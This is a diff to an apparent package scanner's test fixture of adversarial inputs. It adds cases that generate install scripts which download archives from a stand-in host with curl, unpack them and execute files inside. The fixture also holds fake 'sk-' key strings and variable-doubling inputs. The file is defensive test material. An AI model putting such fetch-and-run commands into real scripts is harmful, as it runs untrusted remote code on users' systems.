@@ -2,7 +2,7 @@
  * Adversarial inputs for the package scan, shared by its linearity test and `bench/scan.ts`: each
  * a file name and a maker of about `bytes` of content aimed at one rule — thousands of downloads
  * each run, long nested inline calls, long lines of each rule's trigger, variables whose values
- * would grow without bound if substituted without a budget.
+ * would grow without bound if substituted without a budget, archives unpacked into deep folders.
  */
 
 /** `unit` repeated between `head` and `tail`, to at most `bytes` (ASCII) in all. */
@@ -36,5 +36,10 @@ export const ADVERSARIAL_CASES: readonly AdversarialCase[] = [
   ['write commands and redirects', 'INSTALL', (n) => fill(`cp a b > "x ' `, n)],
   ['thousands of assignments, each doubling the last', 'INSTALL', (n) => lines((i) => (i === 0 ? 'v0=x' : `v${i}=$v${i - 1}"$v${i - 1}"; cp a "$v${i}"`), n)],
   ['a long value referenced all along one line', 'INSTALL', (n) => fill('"$a"/', n, `a=/${'x'.repeat(4000)}\ncp a `)],
+  ['downloads piped into tar, each unpacked folder run', 'INSTALL', (n) => fill('curl -s https://x.example/a | tar xz -C d; sh d/x; cd d; ', n)],
+  ['an archive unpacked into a deep folder, a file in it run', 'INSTALL', (n) => {
+    const deep = 'd/'.repeat(Math.floor((n - 64) / 4));
+    return `curl -o a.tgz https://x.example/a.tgz\ntar xzf a.tgz -C ${deep}\n./${deep}x\n`;
+  }],
   ['sk- without the OpenAI marker', 'payload/keys.txt', (n) => fill('sk-', n)],
 ];
